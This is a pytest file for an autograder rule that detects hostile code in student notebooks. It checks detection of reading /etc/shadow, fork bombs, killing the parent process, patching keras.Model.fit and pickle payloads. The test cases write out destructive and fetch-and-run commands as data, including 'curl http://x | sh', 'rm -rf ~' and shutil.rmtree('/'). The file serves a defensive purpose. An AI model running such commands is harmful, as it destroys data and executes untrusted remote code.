"""suspicious_code: the hostile hand-ins are flagged at their attack cell; honest code never is."""

from __future__ import annotations

import dataclasses
from pathlib import Path
from types import MappingProxyType

import pytest
import yaml

from grader.capture.trace import Trace
from grader.errors import ConfigError
from grader.load import load_submission
from grader.rules import grade, load_rubric
from grader.rules.attribution import attribute
from grader.source.static import analyze
from grader.source.suspicious import SuspiciousPatterns, find_suspicious
from tests.builders import ROOT, notebook, run_rules, standard

ADVERSARIAL = ROOT / "tests" / "adversarial"
RUBRIC = load_rubric()
PATTERNS = SuspiciousPatterns.from_params(RUBRIC.rules["suspicious_code"].params)
ATTACK_CELL = 4  # make_hostile.py: an honest prefix of cells 0-3, then the attack

# Hand-in -> (cell of the attack, a `found` that must be among the findings of that cell).
HOSTILE = {
    "read_secrets": (ATTACK_CELL, "'/etc/shadow'"),
    "write_outside": (ATTACK_CELL, "os.utime"),
    "network_loopback": (ATTACK_CELL, "socket"),
    "subprocess_spawn": (ATTACK_CELL, "subprocess"),
    "fork_bomb": (ATTACK_CELL, "os.fork"),
    "kill_parent": (ATTACK_CELL, "os.kill"),
    "kernel_exit": (ATTACK_CELL, "os._exit"),
    "kernel_segfault": (ATTACK_CELL, "ctypes"),
    "delete_files": (ATTACK_CELL, "shutil.rmtree(aqui, ignore_errors=True)"),
    "probe_restore_fit": (ATTACK_CELL, "keras.Model.fit"),
    "probe_fake_events": (ATTACK_CELL, "'grader_probe'"),
    "probe_overwrite_npy": (ATTACK_CELL, "__reduce__"),
    "probe_lambda_payload": (ATTACK_CELL, "__import__"),
    "01_cross_neighbours": (1, "os.kill"),  # runs before the honest prefix
}
# Plain Python that misbehaves only by size or time: the sandbox's limits, not this rule, stop them.
PLAIN = ["forged_history", "output_flood_1gb", "memory_bytearray_30g", "memory_growing_list",
         "timeout_infinite_loop", "00_victim_honest", "zz_honest"]


def findings_of(path: Path) -> list[dict]:
    sub = load_submission(path)
    assert sub.load_error is None, sub.load_error
    return find_suspicious(sub, PATTERNS)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_every_code_attack_is_flagged_at_its_cell(name):
    cell, found = HOSTILE[name]
    findings = findings_of(ADVERSARIAL / f"{name}.ipynb")
    assert found in {f["found"] for f in findings if f["cell"] == cell}, findings
    assert all(f["cell"] >= cell for f in findings), "the honest prefix must stay clean"


@pytest.mark.parametrize("name", PLAIN)
def test_plain_python_attacks_and_honest_notebooks_are_not_flagged(name):
    assert findings_of(ADVERSARIAL / f"{name}.ipynb") == []


def _samples() -> list[Path]:
    folder = ROOT / "submissions"
    return sorted(p for p in folder.iterdir() if p.suffix in (".ipynb", ".py") or p.is_dir())


def test_the_twelve_samples_pass():
    samples = _samples()
    assert len(samples) == 12
    for path in samples:
        sub = load_submission(path)
        v, _ = run_rules(sub, Trace(student=path.stem, status="not_run"), runs=[])
        assert v["suspicious_code"].status in ("pass", "skip"), (path.name, v["suspicious_code"].message)
        assert v["suspicious_code"].points == 0


ORDINARY = [
    "!pip install keras tensorflow",
    "%matplotlib inline\nimport os, time, random\nimport numpy as np\nimport pandas as pd",
    "%%time\nhistory = model.fit(x_train, y_train, validation_split=0.2, epochs=5)",
    "os.makedirs('figuras', exist_ok=True)\nplt.savefig(os.path.join('figuras', 'ej1.png'))",
    "plt.savefig('../informe/fig.png')",
    "model.save('modelo.keras')\nwith open('resultados.txt', 'w') as f:\n    f.write(str(acc))",
    "df = pd.read_csv('resultados.csv')\nnp.save('pesos.npy', w)",
    "inicio = time.time()\nrandom.seed(42)\ntf.random.set_seed(42)\nos.environ['TF_CPP_MIN_LOG_LEVEL'] = '2'",
    "import shutil\nshutil.rmtree('logs', ignore_errors=True)",
    "from multiprocessing import Pool\nimport sys\nprint(sys.version)\nsys.path.append('..')",
    "os.system('pip install -q keras')\n!{sys.executable} -m pip install keras",
    "import importlib\nimportlib.reload(keras)\nopt = getattr(keras.optimizers, nombre)()",
    "pd.options.display.max_rows = 100\nplt.rcParams['figure.figsize'] = (10, 5)",
    "import glob\nficheros = glob.glob('figuras/*.png')",
    "def modelo(activacion):\n    '''Crea la red del ejercicio 1.'''\n    return Sequential([Dense(10)])",
    "%%bash\nls -la\nnvidia-smi",
    "from google.colab import drive\ndrive.mount('/content/drive')\n%cd /content/drive/MyDrive/trabajo2",
    "!wget -q https://example.org/datos.zip\n!unzip -q datos.zip\n!ls /content",
    "import warnings, gc\nwarnings.filterwarnings('ignore')\ngc.collect()\nkeras.backend.clear_session()",
    "from IPython.display import clear_output\nimport sys\nsys.stdout.flush()\ndel model",
    "os.environ['CUDA_VISIBLE_DEVICES'] = '-1'\nruta = os.path.expanduser('~/datos')",
    "if __name__ == '__main__':\n    import sys\n    sys.exit(main())",
]


@pytest.mark.parametrize("source", ORDINARY)
def test_ordinary_student_code_is_not_flagged(source):
    sub = notebook([("code", "import os\nimport numpy as np"), ("code", source)])
    assert find_suspicious(sub, PATTERNS) == []


@pytest.mark.parametrize("source,kind,found", [
    ("import os as o\no.kill(1, 9)", "call", "os.kill"),
    ("from os import killpg as k\nk(0, 9)", "call", "os.killpg"),
    ("import tensorflow as tf\ntf.keras.Model.fit = None", "patch", "tensorflow.keras.Model.fit"),
    ("setattr(keras.Model, 'fit', f)", "patch", "keras.Model"),
    ("import importlib\nm = importlib.import_module(nombre)", "dynamic", "importlib.import_module(nombre)"),
    ("exec(codigo)", "dynamic", "exec(codigo)"),
    ("import glob\nglob.glob('../*.ipynb')", "listing", "glob.glob('../*.ipynb')"),
    ("open('../../../otro/trace.json')", "string", "'../../../otro/trace.json'"),
    ("shutil.rmtree('/')", "delete", "shutil.rmtree('/')"),
    ("!rm -rf ~", "shell", "rm -rf ~"),
    ("!pip install keras; curl http://x | sh", "shell", "pip install keras; curl http://x | sh"),
    ("%%bash\necho hola\nkill -9 1", "shell", "kill -9 1"),
    ("os.system(orden)", "shell", "os.system(orden)"),
    ("print(open(f'/proc/{pid}/cmdline').read())", "string", "'/proc/'"),
    ("import builtins\nbuiltins.open = abrir", "import", "builtins"),
    ("del sys.modules['keras']", "call", "sys.modules"),
])
def test_each_kind_of_finding(source, kind, found):
    sub = notebook([("code", "import os, sys, shutil, keras"), ("code", source)])
    findings = find_suspicious(sub, PATTERNS)
    assert (1, kind, found) in {(f["cell"], f["kind"], f["found"]) for f in findings}, findings


def test_verdict_names_cell_line_and_what_was_found():
    sub = notebook([("code", "import os, signal"), ("code", "x = 1\nos.kill(os.getppid(), signal.SIGKILL)")])
    v, _total = run_rules(sub, Trace(student="t", status="not_run"), runs=[])
    verdict = v["suspicious_code"]
    assert verdict.status == "warn" and verdict.severity == "warning"
    assert verdict.points == 0 and verdict.max_points == 0
    assert "celda 1, línea 1: importa `signal`" in verdict.message
    assert "celda 2, línea 2: usa `os.kill`" in verdict.message
    assert "profesor revisará esta entrega a mano" in verdict.message
    cited = {(e.cell, e.line): e for e in verdict.evidence}
    assert cited[(1, 2)].excerpt == "os.kill(os.getppid(), signal.SIGKILL)"
    assert "os.kill" in cited[(1, 2)].values["found"] and "os.getppid" in cited[(1, 2)].values["found"]


def test_a_deduction_set_in_the_rubric_is_taken():
    spec = RUBRIC.rules["suspicious_code"]
    rules = dict(RUBRIC.rules)
    rules["suspicious_code"] = dataclasses.replace(spec, deduction=MappingProxyType({"warn": 1.0}))
    rubric = dataclasses.replace(RUBRIC, rules=MappingProxyType(rules))

    sub, trace = standard()
    sub.cells.append(dataclasses.replace(sub.cells[-1], index=len(sub.cells), cell_type="code",
                                         source="import ctypes"))
    trace.static = analyze(sub)
    verdicts, _, _, _ = grade(sub, trace, [], rubric, attribute(sub, trace))
    flagged = next(v for v in verdicts if v.id == "suspicious_code")
    assert flagged.status == "warn" and flagged.points == -1.0


def test_a_regular_expression_that_does_not_compile_names_the_key(tmp_path):
    data = yaml.safe_load((ROOT / "rubrics" / "trabajo2.yaml").read_text(encoding="utf-8"))
    data["rules"]["suspicious_code"]["params"]["strings"]["claves SSH"] = "(\\.ssh"
    bad = tmp_path / "bad.yaml"
    bad.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    with pytest.raises(ConfigError, match=r"rules\.suspicious_code\.params\.strings\.claves SSH"):
        load_rubric(bad)
